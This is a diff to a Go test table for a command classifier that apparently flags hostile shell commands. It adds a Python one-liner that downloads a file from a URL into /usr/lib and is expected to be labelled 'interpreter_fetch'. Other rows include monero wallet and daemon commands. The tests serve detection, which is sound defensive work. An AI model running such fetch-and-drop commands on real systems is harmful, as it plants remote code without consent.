@@ -68,6 +68,8 @@ func TestExpansions(t *testing.T) {
 		{"monero-wallet-rpc --wallet-file /var/lib/w --rpc-bind-port 18083", ""},
 		{"monerod --non-interactive --rpc-bind-ip 127.0.0.1", ""},
 		{"mysql -u root -p secret -h db.example:3306", ""},
+		{"python3 -c import urllib.request as u; u.urlretrieve(URL, /usr/lib/xd)", "interpreter_fetch"},
+		{"python3 -c print(1", ""},
 		{"curl -s http://127.0.0.1:9000/health", ""},
 	} {
 		command := strings.ReplaceAll(tt.command, "URL", url)
